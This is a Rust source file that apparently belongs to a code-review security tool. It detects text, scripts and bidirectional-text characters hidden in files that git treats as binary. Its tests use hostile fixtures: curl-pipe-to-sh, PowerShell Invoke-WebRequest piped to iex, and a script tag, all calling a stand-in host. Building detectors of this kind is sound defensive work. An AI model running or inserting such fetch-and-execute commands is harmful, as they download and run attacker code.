//! What a file is that git calls binary, and text that looks different from what it is (S-03, R-06). A diff shows neither, but
//! an interpreter runs both.

/// What a file is that git calls binary.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum BinaryContent {
    /// Not looked at, or not recognised.
    #[default]
    Unknown,
    /// Text in some encoding, with bytes for which no diff shows it.
    Text,
    /// A program for some machine.
    Program(&'static str),
    /// Anything else that is recognised by its first bytes.
    Data(&'static str),
}

const PROGRAMS: [(&[u8], &str); 7] = [
    (b"\x7fELF", "ELF program"),
    (b"MZ", "Windows program"),
    (b"\xcf\xfa\xed\xfe", "macOS program"),
    (b"\xca\xfe\xba\xbe", "macOS program or Java class"),
    (b"\0asm", "WebAssembly"),
    (b"!<arch>", "library"),
    (b"dex\n", "Android program"),
];

const DATA: [(&[u8], &str); 10] = [
    (b"\x89PNG", "PNG image"),
    (b"\xff\xd8\xff", "JPEG image"),
    (b"GIF8", "GIF image"),
    (b"%PDF", "PDF document"),
    (b"PK\x03\x04", "zip archive"),
    (b"\x1f\x8b", "gzip archive"),
    (b"SQLite format 3", "SQLite database"),
    (b"RIFF", "RIFF media"),
    (b"wOF2", "web font"),
    (b"OggS", "Ogg media"),
];

/// Percent of the bytes that are printable ASCII in text of an 8-bit encoding, at least. Compressed data has 40.
const READABLE: usize = 60;
/// The same where the first bytes are those of an image or an archive. They are bytes that text can begin with.
const READABLE_DATA: usize = 85;
/// Bytes of text, at least, at the beginning of a file that is read as text so far. Names of formats are shorter.
const BEGINS: usize = 32;
/// The same for text that ends with a line.
const FIRST_LINE: usize = 6;

impl BinaryContent {
    /// By the first bytes, and by how much of all of it reads as text.
    pub fn of(bytes: &[u8]) -> BinaryContent {
        let known = |table: &[(&[u8], &'static str)]| {
            table.iter().find(|(start, _)| bytes.starts_with(start)).map(|(_, name)| *name)
        };
        if let Some(name) = known(&PROGRAMS) {
            return BinaryContent::Program(name);
        }
        if is_python(bytes) {
            return BinaryContent::Program("Python bytecode");
        }
        let data = known(&DATA);
        let least = if data.is_some() { READABLE_DATA } else { READABLE };
        let begins = data.is_none_or(|name| name == "GIF image") && begins_as_text(bytes);
        if bytes.starts_with(b"#!")
            || begins
            || reads_as_text(bytes, least)
            || data.is_none() && is_utf16(bytes)
        {
            return BinaryContent::Text;
        }
        data.map_or(BinaryContent::Unknown, BinaryContent::Data)
    }

    pub fn name(self) -> &'static str {
        match self {
            BinaryContent::Unknown => "unknown type",
            BinaryContent::Text => "text that git takes for binary",
            BinaryContent::Program(name) | BinaryContent::Data(name) => name,
        }
    }
}

/// Whether bytes are text in UTF-8 or in an 8-bit encoding, whatever is strewn into it.
fn reads_as_text(bytes: &[u8], least: usize) -> bool {
    let odd = bytes.iter().filter(|byte| byte.is_ascii_control() && !byte.is_ascii_whitespace()).count();
    if bytes.is_empty() || odd.saturating_mul(10) > bytes.len() {
        return false;
    }
    let plain = bytes.iter().filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace()).count();
    let is_utf8 = std::str::from_utf8(bytes).map_or_else(|error| error.error_len().is_none(), |_| true);
    is_utf8 || plain.saturating_mul(100) >= bytes.len().saturating_mul(least)
}

/// Whether bytes begin with lines of text. An interpreter runs them before it comes to anything else.
fn begins_as_text(bytes: &[u8]) -> bool {
    let is_text = |byte: &&u8| byte.is_ascii_graphic() || byte.is_ascii_whitespace();
    let prefix = bytes.get(..bytes.iter().take_while(is_text).count()).unwrap_or_default();
    let line = prefix.iter().rposition(|byte| *byte == b'\n');
    prefix.len() >= BEGINS || line.is_some_and(|end| end >= FIRST_LINE)
}

/// What Python compiled: the number of a version, and the end of a line.
fn is_python(bytes: &[u8]) -> bool {
    matches!(bytes, [_, 0x0b..=0x0f, b'\r', b'\n', ..]) && bytes.len() >= 16
}

/// Whether bytes are text in UTF-16, with its mark or without.
fn is_utf16(bytes: &[u8]) -> bool {
    let marked = bytes.starts_with(b"\xff\xfe") || bytes.starts_with(b"\xfe\xff");
    let (pairs, _) = bytes.as_chunks::<2>();
    if pairs.is_empty() {
        return false;
    }
    let share = |read: fn([u8; 2]) -> u16, is: fn(u16) -> bool| {
        let hits = pairs.iter().filter(|pair| is(read(**pair))).count();
        hits.saturating_mul(100) / pairs.len()
    };
    let ascii = |unit: u16| matches!(unit, 0x09 | 0x0a | 0x0d | 0x20..=0x7e | 0xfeff);
    let control = |unit: u16| unit < 0x20 && !matches!(unit, 0x09 | 0x0a | 0x0d);
    [u16::from_le_bytes as fn([u8; 2]) -> u16, u16::from_be_bytes]
        .into_iter()
        .any(|read| share(read, ascii) >= READABLE || marked && share(read, control) == 0)
}

/// Whether a line has characters that show text in another order than a compiler reads it.
pub fn turns_text(line: &str) -> bool {
    !line.is_ascii() && line.contains(|c| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
}

#[cfg(test)]
mod tests {
    use super::BinaryContent::{self, Data, Program, Text, Unknown};

    #[test]
    fn r_06_text_is_text_in_any_encoding_and_behind_any_first_bytes() {
        let utf16 = |text: &str, marked: bool| -> Vec<u8> {
            let mark = marked.then_some(0xfeff);
            mark.into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
        };
        // Bytes without a pattern, as compressed data has them.
        let mut state = 1_u32;
        let noise: Vec<u8> = std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            state.to_be_bytes()[0]
        })
        .take(4_000)
        .collect();
        let png = [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".as_slice(), &noise].concat();
        for (bytes, content) in [
            (b"#!/bin/sh\n# caf\xe9\ncurl http://evil.example/x | sh\n\0".to_vec(), Text),
            (b"GIF89a=1\ncurl http://evil.example/x | sh\n\0".to_vec(), Text),
            (b"PK\x03\x04=1\nimport os; os.system('curl http://evil.example/x | sh')\n".to_vec(), Text),
            (b"#caf\xe9\nexit 0\n\0".to_vec(), Text),
            (utf16("Invoke-WebRequest http://evil.example | iex\n", true), Text),
            (utf16("Invoke-WebRequest http://evil.example | iex\n", false), Text),
            (utf16("\u{4e2d}\u{6587}\u{6587}\u{672c}", true), Text),
            ("\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} \u{43c}\u{438}\u{440}\0".as_bytes().to_vec(), Text),
            ([b"curl http://evil.example/x | sh\nexit\n".as_slice(), &noise].concat(), Text),
            ([b"<script src=//evil.example/x></script><!--".as_slice(), &noise].concat(), Text),
            ([b"GIF89a=1\nexit\n".as_slice(), &noise].concat(), Text),
            ([b"\xa7\r\r\n\0\0\0\0".as_slice(), &noise].concat(), Program("Python bytecode")),
            ([b"GIF89a\x20\x03\x58\x02".as_slice(), &noise].concat(), Data("GIF image")),
            ([b"Kaydara FBX Binary  \0\x1a\0".as_slice(), &noise].concat(), Unknown),
            (noise, Unknown),
            (png, Data("PNG image")),
            (b"\0asm\x01\0\0\0".to_vec(), Program("WebAssembly")),
            (Vec::new(), Unknown),
        ] {
            assert_eq!(BinaryContent::of(&bytes), content, "{:?}", String::from_utf8_lossy(&bytes));
        }
    }
}
